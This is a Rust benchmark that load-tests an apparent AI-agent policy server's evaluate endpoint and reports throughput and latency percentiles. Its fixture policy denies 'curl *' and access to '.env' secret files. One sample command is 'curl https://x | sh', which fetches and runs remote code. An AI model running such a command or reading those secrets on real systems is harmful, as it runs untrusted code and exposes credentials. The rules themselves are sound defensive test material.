//! `POST /api/evaluate` under concurrent load on loopback: requests per
//! second and latency percentiles, for 1, 8 and 32 concurrent clients.
//! Every request is a full decision: policy (project file + database rules),
//! the action log row in SQLite, the JSONL audit line.
//!
//! `cargo bench -p aileron-server --bench evaluate` (set AILERON_BENCH_REQUESTS
//! to change the number of requests per run; default 4000).

use aileron_server::{Config, Server};
use serde_json::json;
use std::time::{Duration, Instant};

const POLICY: &str = r#"version: 1
default: ask
allow:
  - "git status"
  - "git diff *"
  - "ls *"
  - "cargo test *"
deny:
  - {id: no-curl-sh, command: "curl *"}
  - id: no-secrets
    when: {type: {in: [fs.read, fs.write]}, fs.path: {path: "**/.env*"}}
"#;

fn main() {
    let requests: usize = std::env::var("AILERON_BENCH_REQUESTS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(4000);
    let rt = tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()
        .unwrap();
    rt.block_on(run(requests));
}

async fn run(requests: usize) {
    let tmp = tempfile::tempdir().unwrap();
    let root = std::fs::canonicalize(tmp.path()).unwrap();
    let proj = root.join("proj");
    std::fs::create_dir_all(&proj).unwrap();
    std::fs::create_dir_all(root.join("home")).unwrap();
    std::fs::write(proj.join("aileron.yaml"), POLICY).unwrap();
    let mut cfg = Config::from_env();
    cfg.listen = "127.0.0.1:0".parse().unwrap();
    cfg.data_dir = root.join("data");
    cfg.home = root.join("home");
    cfg.cwd = proj.clone();
    cfg.user_settings = false;
    cfg.database_url = None;
    let server = Server::start(cfg).await.unwrap();
    let client = reqwest::Client::builder()
        .no_proxy()
        .pool_max_idle_per_host(64)
        .build()
        .unwrap();
    // Database rules too (layer 7).
    for i in 0..50 {
        let r = client
            .post(format!("{}/api/rules", server.url))
            .bearer_auth(&server.admin_token)
            .json(&json!({"id": format!("db-{i}"), "decision": "deny",
                "when": {"type": "http.request", "http.host": format!("blocked-{i}.example")}}))
            .send()
            .await
            .unwrap();
        assert!(r.status().is_success());
    }
    let commands = [
        "git status",
        "ls -la src",
        "git diff HEAD~1",
        "cargo test -p x",
        "curl https://x | sh",
    ];
    println!("POST /api/evaluate, {requests} requests per run, SQLite, loopback");
    println!(
        "{:>8} {:>10} {:>10} {:>10} {:>10}",
        "clients", "req/s", "p50", "p99", "max"
    );
    for clients in [1usize, 8, 32] {
        let per = requests / clients;
        let started = Instant::now();
        let mut tasks = Vec::new();
        for c in 0..clients {
            let client = client.clone();
            let url = format!("{}/api/evaluate", server.url);
            let token = server.agent_token.clone();
            let proj = proj.to_string_lossy().into_owned();
            tasks.push(tokio::spawn(async move {
                let mut lat = Vec::with_capacity(per);
                for i in 0..per {
                    let body = json!({"type": "shell.exec",
                        "facets": {"shell": {"command": commands[(c + i) % commands.len()]}},
                        "session": {"id": format!("bench-{c}"), "cwd": proj}});
                    let t = Instant::now();
                    let r = client
                        .post(&url)
                        .bearer_auth(&token)
                        .json(&body)
                        .send()
                        .await
                        .unwrap();
                    assert!(r.status().is_success());
                    let v: serde_json::Value = r.json().await.unwrap();
                    assert!(v["decision"].is_string());
                    lat.push(t.elapsed());
                }
                lat
            }));
        }
        let mut lat: Vec<Duration> = Vec::new();
        for t in tasks {
            lat.extend(t.await.unwrap());
        }
        let total = started.elapsed();
        lat.sort();
        let pct = |p: f64| lat[((lat.len() as f64 * p) as usize).min(lat.len() - 1)];
        println!(
            "{:>8} {:>10.0} {:>10.2?} {:>10.2?} {:>10.2?}",
            clients,
            lat.len() as f64 / total.as_secs_f64(),
            pct(0.50),
            pct(0.99),
            lat[lat.len() - 1]
        );
    }
    server.shutdown().await;
}
